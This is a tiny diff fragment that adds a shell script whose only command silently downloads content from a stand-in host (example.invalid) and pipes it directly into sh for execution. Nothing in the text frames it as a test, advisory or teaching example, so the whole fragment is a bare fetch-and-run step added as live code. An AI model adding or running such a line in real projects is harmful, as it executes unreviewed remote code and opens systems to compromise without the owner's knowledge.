@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s https://example.invalid/x | sh
